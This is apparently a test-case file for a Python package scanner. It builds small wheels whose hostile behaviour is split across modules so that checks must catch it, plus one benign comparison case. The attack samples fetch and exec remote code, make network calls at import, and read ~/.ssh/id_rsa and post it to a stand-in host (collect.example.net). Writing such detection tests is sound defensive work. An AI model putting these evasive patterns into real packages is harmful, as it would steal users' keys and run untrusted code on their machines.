"""What takes two modules: one fetches, reads or opens a way, another executes, sends or goes it."""
from .package import attack, honest

URL = "https://cdn.example.net/t"


@attack
def fetched_there_executed_here(p):
    """A function that fetches in one module, exec of what it gives in a function of another. Must be held."""
    return p.wheel(files={
        "{m}/source.py": f'''
            import requests


            def latest():
                return requests.get("{URL}", timeout=9).text
            ''',
        "{m}/update.py": '''
            from .source import latest


            def update():
                text = latest()
                exec(compile(text.strip() + "\\n", "update", "exec"), {})
            '''})


@attack
def fetched_behind_a_wrapper(p):
    """The same, with a module between that has none of the words that checks begin with. Must be held."""
    return p.wheel(files={
        "{m}/source.py": f'''
            import requests


            def latest():
                return requests.get("{URL}", timeout=9).text
            ''',
        "{m}/cache.py": '''
            from . import source


            def rules(kept=[]):
                if not kept:
                    kept.append(1)
                return source.latest()
            ''',
        "{m}/update.py": '''
            from .cache import rules


            def update():
                exec(rules())
            '''})


@attack
def network_by_a_call_of_init(p):
    """A function of a module uses the network, __init__ calls it by a name of its own. Must be held."""
    return p.wheel(init="from .tables import columns, line\nfrom .warm import warm as _start\n\n_start()\n", files={
        "{m}/warm.py": f'''
            import urllib.request


            def warm():
                return urllib.request.urlopen("{URL}").read()
            '''})


@attack
def network_in_a_method(p):
    """A method uses the network, a second module calls it of an instance that a third one has. Must be held."""
    return p.wheel(init="from .tables import columns, line\nfrom .shared import client\n\nclient.ping()\n", files={
        "{m}/client.py": f'''
            import urllib.request


            class Client:
                def ping(self):
                    return urllib.request.urlopen("{URL}").status
            ''',
        "{m}/shared.py": '''
            from .client import Client

            client = Client()
            '''})


@attack
def key_read_there_sent_here(p):
    """A function reads a private key, another module posts what it gives. Must be held."""
    return p.wheel(files={
        "{m}/identity.py": '''
            import os


            def identity():
                with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
                    return f.read()
            ''',
        "{m}/report.py": '''
            import requests

            from .identity import identity


            def report():
                who = identity()
                requests.post("https://collect.example.net/r", json={"who": f"{who}"}, timeout=9)
            '''})


@attack
def key_given_to_a_sender(p):
    """A module sends what it is given, another one gives it a private key. Must be held."""
    return p.wheel(files={
        "{m}/transport.py": '''
            import requests


            def send(body):
                requests.post("https://collect.example.net/r", data=body, timeout=9)
            ''',
        "{m}/report.py": '''
            import pathlib

            from .transport import send


            def report():
                send((pathlib.Path.home() / ".ssh" / "id_rsa").read_text())
            '''})


@attack
def path_of_a_key_elsewhere(p):
    """The path of a private key is a constant of another module. Must be held."""
    return p.wheel(files={
        "{m}/paths.py": 'STATE = "/root/.ssh/id_rsa"\n',
        "{m}/report.py": '''
            import requests

            from . import paths


            def report():
                requests.post("https://collect.example.net/r", data=open(paths.STATE).read(), timeout=9)
            '''})


@attack
def program_run_at_import(p):
    """What stands under __main__ in one module, run under that name by another. Must be held."""
    return p.wheel(init=f"import runpy\n\nrunpy.run_module('{p.module}.tool', run_name='__main__')\n", files={
        "{m}/tool.py": f'''
            import urllib.request

            if __name__ == "__main__":
                urllib.request.urlopen("{URL}").read()
            '''})


@attack
def after_an_assertion(p):
    """What follows an assertion that this is the program, which python -O does not make. Must be held."""
    return p.wheel(init=f'''
        import urllib.request

        assert __name__ == "__main__"
        urllib.request.urlopen("{URL}").read()
        ''')


@honest
def client_of_two_modules(p):
    """One module fetches, another one shows what it gives; a program of its own calls both."""
    return p.wheel(files={
        "{m}/client.py": '''
            import requests


            def fetch(url):
                return requests.get(url, timeout=9).json()


            class Client:
                def __init__(self, url):
                    self.url = url

                def rows(self):
                    return fetch(self.url)
            ''',
        "{m}/show.py": '''
            import os

            from .client import Client, fetch

            DEFAULT = Client(os.environ.get("TABLES_URL", "https://api.example.org/"))


            def show():
                print(DEFAULT.rows(), fetch(DEFAULT.url))


            if __name__ == "__main__":
                show()
            '''})
